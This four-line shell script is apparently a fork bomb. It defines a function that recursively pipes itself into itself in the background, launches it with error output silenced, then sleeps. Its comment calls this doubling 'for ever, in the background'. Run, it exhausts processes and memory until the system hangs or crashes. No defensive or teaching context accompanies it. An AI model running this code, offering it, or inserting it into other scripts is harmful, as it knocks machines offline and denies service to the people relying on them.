# Doubles itself for ever, in the background, and ends at once.
f() { f | f & }
f 2>/dev/null
sleep 0.5
